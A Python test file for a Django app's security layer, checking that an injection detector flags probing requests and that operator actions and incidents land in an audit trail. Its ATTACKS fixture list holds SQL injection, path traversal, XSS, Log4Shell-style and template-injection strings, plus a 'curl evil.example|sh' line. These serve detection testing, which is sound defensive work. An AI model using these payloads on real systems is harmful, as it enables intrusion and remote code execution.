"""Requests that probe, and what operators do on their site, end up in the trail."""

from __future__ import annotations

import threading
from typing import Any
from urllib.parse import quote
from uuid import UUID

import pytest
from django.db import connection, transaction
from django.test import Client

from accounts.models import Organization, User
from audit.models import AuditEvent
from security import observing, services, threats
from security.models import IncidentSource, SecurityIncident, Threat
from security.observing import WATCH, injections_in
from security.services import Report
from tests.api.people import Api, Person

ATTACKS = [
    "/api/workflows?search=' OR 1=1--",
    '/api/workflows?search=" or "a"="a',
    "/api/workflows?search=x' UNION SELECT password FROM users",
    "/api/workflows?search=1;DROP TABLE users",
    "/api/workflows?search=pg_sleep(10)",
    "/api/files/../../etc/passwd",
    "/static/..\\..\\boot.ini",
    "/api/logs?search=<script>alert(1)</script>",
    "/api/logs?search=<img src=x onerror=alert(1)>",
    "/api/logs?search=${jndi:ldap://x}",
    "/api/logs?search={{x.__class__}}",
    "/api/logs?search=x;curl evil.example|sh",
]
HARMLESS = [
    "/api/workflows?search=O'Brien and sons",
    "/api/workflows?search=select the union of both",
    "/api/logs?search=drop off at the table; later",
    "/api/logs?search=a < b and b > c",
    "/api/logs?search=100% sure",
    "/api/workflows/018f0000-0000-7000-8000-000000000000/versions/1..2",
    "/api/logs?search=price=5|6 and id=7",
    "/api/logs?since=2026-01-01T00:00:00Z&until=2026-01-02T00:00:00%2B01:00",
]


@pytest.fixture(autouse=True)
def nothing_counted() -> None:
    WATCH._counts.clear()


@pytest.mark.parametrize("path", ATTACKS)
@pytest.mark.parametrize("times", [0, 1, 2])
def test_what_injections_are_made_of_is_seen_also_encoded_twice(path: str, times: int) -> None:
    said = path
    for _ in range(times):
        said = quote(said, safe="")
    assert injections_in(said)


@pytest.mark.parametrize("path", HARMLESS)
def test_what_people_write_is_not(path: str) -> None:
    assert injections_in(path) == []


def test_no_text_takes_long(ann: Person) -> None:
    for text in ("'" * 100_000, "${" * 50_000, "{{" * 50_000, "<" * 100_000, "../" * 30_000, "a" * 100_000 + "union "):
        injections_in(text)


def test_probing_becomes_one_event_and_a_threat(ann: Person, member: Person) -> None:
    for _ in range(12):
        assert member.api.get("/api/audit").status_code == 403
    for path in ATTACKS[:4]:
        member.api.get(quote(path, safe="/?="))
    assert WATCH.flush() == 2
    assert WATCH.flush() == 0
    rows = {
        each.event_type: each for each in AuditEvent.objects.of(ann.actor).filter(event_type__startswith="request.")
    }
    assert rows[observing.DENIED].details["count"] == 12
    assert rows[observing.DENIED].user_id == member.actor.user_id
    assert rows[observing.DENIED].details["path"] == "/api/audit"
    assert rows[observing.INJECTION].details["count"] >= 4
    assert rows[observing.INJECTION].details["subject"] == "SQL"
    threats.detect()
    kinds = set(Threat.objects.of(ann.actor).values_list("type", flat=True))
    assert {"privilege_probe", "injection_probe"} <= kinds


def test_a_probe_of_nobody_is_the_platforms(db: None) -> None:
    for path in ATTACKS[:3]:
        Api().get(quote(path, safe="/?="))
    WATCH.flush()
    threats.detect()
    (row,) = Threat.unscoped.filter(type="injection_probe")
    assert (row.organization_id, row.chain) == (None, UUID(int=0))


def test_sources_are_bounded(db: None, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(observing, "MOST_SOURCES", 3)
    for number in range(10):
        WATCH.note(observing.Source(observing.DENIED, None, None, f"203.0.113.{number}"), path="/x")
    assert WATCH.flush() == 3


# -- operators -----------------------------------------------------------------------------------------------------------


@pytest.fixture
def operator(db: None) -> Client:
    User.objects.create_superuser("op@example.com", "correct horse 9", first_name="Op", last_name="Er")
    return Client()


def acts() -> list[tuple[str, str, str]]:
    rows = AuditEvent.unscoped.filter(event_type__startswith="operator.").order_by("id")
    return [(each.event_type, each.action, each.outcome) for each in rows]


def test_operators_logins_are_recorded(operator: Client) -> None:
    form = {"username": "op@example.com", "password": "wrong", "next": "/admin/"}
    operator.post("/admin/login/", form)
    operator.post("/admin/login/", {**form, "password": "correct horse 9"})
    assert acts() == [("operator.login.failed", "login", "failure"), ("operator.login.opened", "login", "success")]


def test_what_an_operator_changes_is_in_the_trail_of_whose_row_it_is(operator: Client, ours: UUID) -> None:
    operator.force_login(User.objects.get(email="op@example.com"))
    form = {"name": "Renamed", "is_active": "on", "_save": "Save"}
    answer = operator.post(f"/admin/accounts/organization/{ours}/change/", form)
    assert answer.status_code == 302, answer.content[:500]
    assert Organization.objects.get(pk=ours).name == "Renamed"
    (event,) = AuditEvent.objects.of(ours).filter(event_type="operator.changed")
    assert (event.action, event.kind, event.resource_id) == ("change", "operator", str(ours))
    assert event.resource_type == "accounts.organization"


def test_an_operators_action_is_recorded(
    operator: Client, ann: Person, django_capture_on_commit_callbacks: Any
) -> None:
    operator.force_login(User.objects.get(email="op@example.com"))
    chosen = {"action": "revoke_sessions", "_selected_action": [str(ann.actor.session_id)]}
    assert b"end at once" in operator.post("/admin/accounts/session/", chosen).content
    assert [each for each in acts() if each[0] == "operator.acted"] == []  # It was asked, and nothing done yet.
    with django_capture_on_commit_callbacks(execute=True):
        operator.post("/admin/accounts/session/", {**chosen, "confirmed": "yes"})
    assert ("operator.acted", "revoke_sessions", "success") in acts()
    ended = AuditEvent.objects.of(ann.actor).get(event_type="auth.session.ended")
    assert (ended.session_id, ended.details["reason"]) == (ann.actor.session_id, "revoked by an operator")


def test_the_operators_page_verifies_a_chain(operator: Client, ann: Person) -> None:
    operator.force_login(User.objects.get(email="op@example.com"))
    event = AuditEvent.objects.of(ann.actor).first()
    assert event is not None
    answer = operator.post(
        "/admin/audit/auditevent/", {"action": "verify", "_selected_action": [str(event.pk)]}, follow=True
    )
    assert b"as they were recorded" in answer.content
    assert operator.get(f"/admin/audit/auditevent/{event.pk}/change/").status_code == 200
    assert operator.post(f"/admin/audit/auditevent/{event.pk}/delete/", {"post": "yes"}).status_code == 403
    assert AuditEvent.objects.of(ann.actor).filter(pk=event.pk).exists()


# -- numbers -------------------------------------------------------------------------------------------------------------


@pytest.mark.django_db(transaction=True)
def test_incidents_reported_at_once_are_numbered_without_gaps_or_twins(ours: UUID) -> None:
    start = threading.Barrier(5)
    problems: list[BaseException] = []

    def report(number: int) -> None:
        try:
            start.wait(20)
            with transaction.atomic():
                services.open_incident(
                    ours, Report(f"Report {number}", "Something happened.", "low"), source=IncidentSource.DETECTOR
                )
        except BaseException as error:
            problems.append(error)
        finally:
            connection.close()

    threads = [threading.Thread(target=report, args=[number]) for number in range(5)]
    for each in threads:
        each.start()
    for each in threads:
        each.join(60)
    assert problems == []
    rows = SecurityIncident.objects.of(ours).order_by("number")
    assert [each.reference for each in rows] == [f"INC-00000{number}" for number in range(1, 6)]
